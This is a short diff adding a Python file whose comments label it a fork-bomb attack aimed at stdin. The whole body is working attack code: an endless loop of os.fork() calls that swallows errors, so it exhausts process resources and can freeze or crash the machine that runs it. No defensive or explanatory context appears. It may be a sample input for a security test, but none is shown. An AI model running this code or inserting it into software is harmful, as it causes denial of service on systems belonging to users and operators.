@@ -1,0 +1,8 @@
+# target: stdin
+# attack: fork bomb: every process forks forever
+import os
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
